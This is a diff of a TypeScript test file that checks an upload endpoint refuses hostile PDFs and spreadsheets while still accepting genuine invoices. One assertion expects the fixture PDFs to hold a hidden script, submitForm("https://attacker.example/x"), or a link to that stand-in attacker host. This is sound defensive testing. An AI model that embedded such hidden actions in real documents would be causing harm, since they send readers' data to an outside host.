@@ -1,6 +1,7 @@
 // The hostile upload corpus (tests/fixtures/upload-corpus.ts): none is accepted, each gets
 // its status, and nothing of the request is stored (no lead, no file row). A genuine
 // spreadsheet still passes, so the checks are not simply refusing everything.
+import { fileTypeFromBuffer } from 'file-type';
 import { PDFDocument } from 'pdf-lib';
 import request from 'supertest';
 import { afterAll, beforeAll, expect, test } from 'vitest';
@@ -8,9 +9,12 @@ import { SUBMIT_PATH } from '../../common/api/submission';
 import { VALID_FORM_DATA } from '../fixtures/form-examples';
 import { HOSTILE_UPLOADS, type HostileUpload } from '../fixtures/upload-corpus';
 import { compressedPdf, xlsBytes } from '../fixtures/active-documents';
+import { HOSTILE_PDFS, incrementallyUpdatedPdf } from '../fixtures/hostile-pdfs';
+import { whatReaderFinds } from '../setup/pdf-oracle';
 import { pdfBytes, pngBytes } from '../fixtures/files';
-import { xlsxBytes } from '../fixtures/zip-archive';
+import { BENIGN_SPREADSHEETS, HOSTILE_SPREADSHEETS } from '../fixtures/hostile-spreadsheets';
 import { startTestApp, type TestApp } from '../setup/test-app';
+import { contentProblem } from '../../server/leads/check-file-content';
 
 let testApp: TestApp;
 let accepted = 0;
@@ -71,6 +75,20 @@ test('ordinary documents still pass: a plain PDF, one saved with object streams,
   expect(await testApp.services.prisma.leadFile.count({ where: { leadId: response.body.id } })).toBe(5);
 });
 
+test('a PDF saved again as an update (a new revision whose xref lists the changed object) still passes', async () => {
+  const response = await submit('invoices', [{ name: 'factura-actualizada.pdf', content: incrementallyUpdatedPdf() }]);
+  expect(response.status, JSON.stringify(response.body)).toBe(200);
+});
+
+test.each(HOSTILE_PDFS.filter((pdf) => pdf.readerSees).map((pdf) => [pdf.name, pdf] as const))(
+  'the corpus is hostile to a reader: pdf.js finds the hidden action (%s)',
+  async (_name, pdf) => {
+    const found = await whatReaderFinds(pdf.content);
+    if (pdf.readerSees === 'script') expect(found.scripts.join()).toContain('submitForm("https://attacker.example/x")');
+    else expect(found.links).toContain('Link "https://attacker.example/x"');
+  },
+);
+
 test("a right-to-left override is taken out of a real photo's name, so it reads as what it is", async () => {
   const response = await submit('invoices', [{ name: 'factura\u202eexe.png', content: pngBytes() }]);
   expect(response.status).toBe(200);
@@ -81,13 +99,38 @@ test("a right-to-left override is taken out of a real photo's name, so it reads 
   expect(file!.originalName).toBe('facturaexe.png');
 });
 
-test('a genuine spreadsheet of invoices is accepted', async () => {
-  const response = await submit('invoices', [
-    {
-      name: 'facturas 2024.xlsx',
-      content: xlsxBytes([], '<worksheet><sheetData><row r="1"/></sheetData></worksheet>'),
-    },
-  ]);
-  expect(response.status).toBe(200);
-  expect(await testApp.services.prisma.leadFile.count({ where: { leadId: response.body.id } })).toBe(1);
+test('genuine spreadsheets are accepted: formulas, a link inside the workbook, references to its own sheets', async () => {
+  const response = await submit('invoices', BENIGN_SPREADSHEETS);
+  expect(response.status, JSON.stringify(response.body)).toBe(200);
+  expect(await testApp.services.prisma.leadFile.count({ where: { leadId: response.body.id } })).toBe(2);
+});
+
+test('a refused spreadsheet is named under its field in the visitor’s language', async () => {
+  const [hostile] = HOSTILE_SPREADSHEETS;
+  const response = await request(testApp.app)
+    .post(SUBMIT_PATH)
+    .field('formType', 'Autónomos ZZP')
+    .field('language', 'en')
+    .field('formData', JSON.stringify(VALID_FORM_DATA.zzp))
+    .attach('invoices', hostile!.content, hostile!.file);
+  expect(response.status).toBe(415);
+  expect(response.body.fieldErrors.invoices).toMatchObject({ code: 'validation.fileUnsafe', file: hostile!.file });
+  expect(response.body.fieldErrors.invoices.message).toBe(
+    `“${hostile!.file}” contains parts we do not accept for security reasons (macros, scripts or attached files). Save it as a plain PDF or image and choose it again.`,
+  );
+});
+
+test.each([
+  ...HOSTILE_SPREADSHEETS.map((sheet) => [sheet.name, sheet.content] as const),
+  ...HOSTILE_PDFS.map((pdf) => [pdf.name, pdf.content] as const),
+])('%s: a real document of its kind, refused for what it holds, not as unreadable', async (_name, content) => {
+  const mime = (await fileTypeFromBuffer(content))?.mime;
+  expect([
+    'application/pdf',
+    'application/x-cfb',
+    'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet',
+  ]).toContain(mime);
+  const problem = await contentProblem(mime!, content);
+  expect(problem).toBeDefined();
+  expect(problem).not.toMatch(/unreadable/);
 });
